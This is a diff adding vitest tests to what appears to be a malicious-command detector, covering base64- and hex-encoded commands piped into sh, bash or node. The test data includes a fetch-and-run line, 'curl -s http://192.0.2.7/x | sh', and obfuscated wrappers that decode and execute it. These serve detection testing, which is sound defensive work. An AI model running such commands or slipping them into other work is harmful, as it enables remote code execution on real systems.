@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { duplicateKeys } from '../../../src/detectors/package/json-keys.js';
-import { assessCommand, encodedPowerShell, isBuildCommand } from '../../../src/detectors/shared/commands.js';
+import { assessCommand, encodedPowerShell, shellDecoded, isBuildCommand } from '../../../src/detectors/shared/commands.js';
 import { endpointIn, persistenceIn, secretIn } from '../../../src/detectors/shared/indicators.js';
 import { nodeTarget, splitScript } from '../../../src/detectors/javascript/npm-scripts.js';
 
@@ -39,6 +39,23 @@ describe('assessCommand', () => {
     ['curl --version', 'unknown'],
   ])('%s → %s', (cmd, level) => {
     expect(assessCommand(cmd).level).toBe(level);
+  });
+
+  it('decodes base64 and hex the shell decodes, and judges text decoded into a shell or an interpreter as run', () => {
+    const inner = 'curl -s http://192.0.2.7/x | sh';
+    const b64 = Buffer.from(inner).toString('base64');
+    const hex = Buffer.from(inner).toString('hex');
+    expect(shellDecoded(`echo ${b64} | base64 -d | sh`)).toBe(inner);
+    expect(shellDecoded(`echo '${hex}' | xxd -r -p | bash`)).toBe(inner);
+    for (const cmd of [`echo ${b64} | base64 -d | sh`, `echo ${hex} | xxd -r -p | bash`, `node -e "$(echo ${Buffer.from("require('child_process').exec('id')").toString('base64')} | base64 --decode)"`]) {
+      const a = assessCommand(cmd);
+      expect(a.level).toBe('malicious');
+      expect(a.reasons).toContain('runs text it decodes (base64/hex) as a script');
+    }
+    expect(assessCommand(`echo ${b64} | base64 -d | sh`).reasons).toContain(`the encoded command decodes to \`${inner}\``);
+    // Decoding to a file (a certificate, a fixture) runs nothing.
+    expect(assessCommand('echo $CERT_B64 | base64 -d > ca.pem').level).not.toBe('malicious');
+    expect(assessCommand('base64 -d fixtures/data.b64 > fixtures/data.bin').level).not.toBe('malicious');
   });
 
   it("decodes PowerShell's -EncodedCommand and judges the script with the command", () => {
